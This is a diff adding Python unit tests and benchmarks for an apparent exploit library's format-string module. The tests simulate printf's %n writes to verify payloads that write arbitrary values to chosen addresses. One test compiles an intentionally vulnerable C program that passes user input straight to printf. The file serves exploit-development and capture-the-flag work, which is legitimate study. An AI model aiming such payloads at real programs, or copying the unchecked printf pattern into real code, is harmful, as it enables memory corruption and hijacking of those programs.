@@ -0,0 +1,210 @@
+#!/usr/bin/env python2
+import unittest
+import random
+import re
+import os
+import shutil
+import subprocess
+import tempfile
+from struct import unpack, calcsize
+from mypwn.myfmt import *
+
+_DIRECTIVE = re.compile(r'%(?:(\d+)\$)?(\d*)(hhn|hn|n|c|p)')
+_WRITE_SIZE = {'hhn': 1, 'hn': 2, 'n': 4}
+
+def _simulate_printf(payload, pos, word_size, length=0, stack=None, skew=0):
+	'''
+	Returns (printed, memory) after printf(payload) where the payload sits on
+	the stack starting at argument `pos', `skew' bytes into it, and `length'
+	chars were printed before it. `stack' maps the other argument positions
+	to values. Only %Nc, %p and %k$hhn/hn/n are understood.
+	'''
+	fmt = {4: '<I', 8: '<Q'}[word_size]
+	words = '\xee' * skew + payload
+	def arg(k):
+		if k >= pos:
+			offset = (k - pos) * word_size
+			return unpack(fmt, words[offset:offset + word_size].ljust(word_size, '\x00'))[0]
+		return (stack or {}).get(k, 0)
+
+	printed = []
+	count = length
+	memory = {}
+	i = 0
+	next_arg = 1
+	while i < len(payload) and payload[i] != '\x00':
+		m = _DIRECTIVE.match(payload, i) if payload[i] == '%' else None
+		if m is None:
+			printed.append(payload[i])
+			count += 1
+			i += 1
+			continue
+		index = int(m.group(1)) if m.group(1) else next_arg
+		next_arg += 1
+		conv = m.group(3)
+		if conv == 'c':
+			width = int(m.group(2) or 1)
+			printed.append(' ' * (width - 1) + chr(arg(index) & 0xff))
+			count += width
+		elif conv == 'p':
+			value = arg(index)
+			text = '0x%x' % value if value else '(nil)'
+			printed.append(text)
+			count += len(text)
+		else:
+			addr = arg(index)
+			for b in range(_WRITE_SIZE[conv]):
+				memory[addr + b] = (count >> (8 * b)) & 0xff
+		i = m.end()
+	return ''.join(printed), memory
+
+def _read(memory, addr, size):
+	return sum(memory[addr + i] << (8 * i) for i in range(size))
+
+
+class TestFmtPlan(unittest.TestCase):
+	def check(self, writes, pos, length, arch, size=None):
+		payload, output = fmt_plan(writes, pos, length, arch, size)
+		word_size = 4 if arch == 'x86' else 8
+		size = size or word_size
+		printed, memory = _simulate_printf(payload, pos, word_size, length)
+		self.assertEqual(length + len(printed), output)
+		for addr, value in writes.items():
+			self.assertEqual(_read(memory, addr, size), value)
+		return payload, output
+
+	def test_fmt_plan(self):
+		print("\nTesting mypwn.myfmt.fmt_plan ...")
+		self.check({0x08049794: 0xcafebabe}, 4, 0, 'x86')
+		self.check({0x08049794: 0xcafebabe, 0x08049798: 0x1}, 7, 13, 'x86')
+		self.check({0x601250: 0x601230}, 8, 18, 'x64')
+		self.check({0x601250: 0x00007fffdeadbeef, 0x601258: 0}, 6, 0, 'x64')
+		self.check({0x0804a010: 0x0102}, 1, 0, 'x86', size=2)
+
+		rand = random.Random(1997)
+		for _ in range(50):
+			arch = rand.choice(['x86', 'x64'])
+			size = rand.choice([None, 1, 2, 4])
+			nbytes = size or (4 if arch == 'x86' else 8)
+			# x86 addresses are printed, they must not hold a NUL
+			base = 0x08049110 if arch == 'x86' else 0x601000
+			writes = dict((base + 8 * i, rand.getrandbits(8 * nbytes))
+			              for i in range(rand.randint(1, 4)))
+			self.check(writes, rand.randint(1, 40), rand.randint(0, 300), arch, size)
+
+		# small values are merged into wider writes
+		payload, output = self.check({0x0804a010: 0x10}, 4, 0, 'x86')
+		self.assertTrue('$n' in payload)
+		self.assertRaises(ValueError, fmt_plan, {0x0804a010: 1 << 32}, 4)
+		print("    OK.")
+
+
+_VULN_C = r'''
+#include <stdio.h>
+#include <string.h>
+int main(void) {
+  char buf[256];
+  if (!fgets(buf, sizeof(buf), stdin))
+    return 1;
+  buf[strcspn(buf, "\n")] = 0;
+  printf(buf);
+  printf("\n");
+  return 0;
+}
+'''
+
+class TestFmtFindOffset(unittest.TestCase):
+	def test_simulated(self):
+		print("\nTesting mypwn.myfmt.fmt_find_offset (simulated printf) ...")
+		rand = random.Random(7)
+		for (pos, arch, max_len) in ((11, 'x86', 128), (57, 'x64', 64), (3, 'x64', 40)):
+			word_size = 4 if arch == 'x86' else 8
+			stack = dict((k, rand.getrandbits(8 * word_size)) for k in range(pos))
+			probes = []
+			def send(payload):
+				probes.append(payload)
+				self.assertTrue(len(payload) <= max_len)
+				printed, _ = _simulate_printf(payload, pos, word_size, 6, stack)
+				return 'Hello ' + printed + '\n'
+			self.assertEqual(fmt_find_offset(send, arch=arch, max_len=max_len),
+			                 (pos, 6, 0))
+			per_probe = (max_len - word_size) // len('|%10$p')
+			self.assertTrue(len(probes) <= pos // per_probe + 1, len(probes))
+
+		# the buffer starts `skew' bytes into a stack word: padding
+		# word_size - skew chars realigns the payload on the next one
+		for (arch, skew) in (('x86', 1), ('x86', 3), ('x64', 5)):
+			word_size = 4 if arch == 'x86' else 8
+			send = lambda payload: 'Hi ' + _simulate_printf(payload, 9, word_size,
+					3, skew=skew)[0]
+			result = fmt_find_offset(send, arch=arch)
+			self.assertEqual(result, (10, 3 + word_size - skew, word_size - skew))
+			(pos, length, padding) = result
+			writes = {0x08049794: 0xcafebabe}
+			payload = 'X' * padding + fmt_plan(writes, pos, length, arch)[0]
+			memory = _simulate_printf(payload, 9, word_size, 3, skew=skew)[1]
+			self.assertEqual(_read(memory, 0x08049794, word_size), 0xcafebabe)
+
+		# the payload is never on the stack
+		send = lambda payload: _simulate_printf(payload, 500, 4)[0]
+		self.assertEqual(fmt_find_offset(send, max_pos=50), None)
+		print("    OK.")
+
+	def test_compiled(self):
+		print("\nTesting mypwn.myfmt.fmt_find_offset (compiled printf) ...")
+		tmpdir = tempfile.mkdtemp()
+		try:
+			source = os.path.join(tmpdir, 'vuln.c')
+			binary = os.path.join(tmpdir, 'vuln')
+			with open(source, 'w') as fd:
+				fd.write(_VULN_C)
+			try:
+				subprocess.check_call(['gcc', '-w', '-o', binary, source])
+			except (OSError, subprocess.CalledProcessError):
+				raise unittest.SkipTest("no working gcc")
+
+			def send(payload):
+				p = subprocess.Popen([binary], stdin=subprocess.PIPE,
+				                     stdout=subprocess.PIPE)
+				return p.communicate(payload + '\n')[0]
+			# gcc builds for the same word size as this interpreter
+			arch = 'x64' if calcsize('P') == 8 else 'x86'
+			result = fmt_find_offset(send, arch=arch)
+			self.assertNotEqual(result, None)
+			pos, length, padding = result
+			self.assertEqual((length, padding), (0, 0))
+			marker = 'B' * (8 if arch == 'x64' else 4)
+			self.assertEqual(send(marker + '%%%d$p' % pos).strip(),
+			                 marker + '0x' + '42' * len(marker))
+			print("    pos = %d" % pos)
+		finally:
+			shutil.rmtree(tmpdir)
+
+
+class BenchFmtPlan(unittest.TestCase):
+	def test_bench_output_length(self):
+		print("\nBenchmark mypwn.myfmt printed chars, x86, pos=4 ...")
+		rand = random.Random(2018)
+		values = [rand.getrandbits(32) for _ in range(100)]
+		dst = 0x08049794
+		total = {'fmt_four_bytes': 0, 'fmt_two_shorts': 0, 'fmt_plan': 0}
+		for src in values:
+			for name, fun in (('fmt_four_bytes', fmt_four_bytes),
+			                  ('fmt_two_shorts', fmt_two_shorts)):
+				printed, memory = _simulate_printf(fun(dst, 4, src), 4, 4)
+				self.assertEqual(_read(memory, dst, 4), src)
+				total[name] += len(printed)
+			total['fmt_plan'] += fmt_plan({dst: src}, 4)[1]
+		for name in sorted(total):
+			print("    %-16s %8.1f chars/write" % (name, total[name] / 100.0))
+
+		# four values in one payload against four separate payloads
+		writes = dict((dst + 4 * i, v) for (i, v) in enumerate(values[:4]))
+		separate = sum(len(_simulate_printf(fmt_two_shorts(a, 4, v), 4, 4)[0])
+		               for (a, v) in writes.items())
+		print("    4 x fmt_two_shorts %8d chars" % separate)
+		print("    fmt_plan(4 writes) %8d chars" % fmt_plan(writes, 4)[1])
+
+
+if __name__ == '__main__':
+	unittest.main()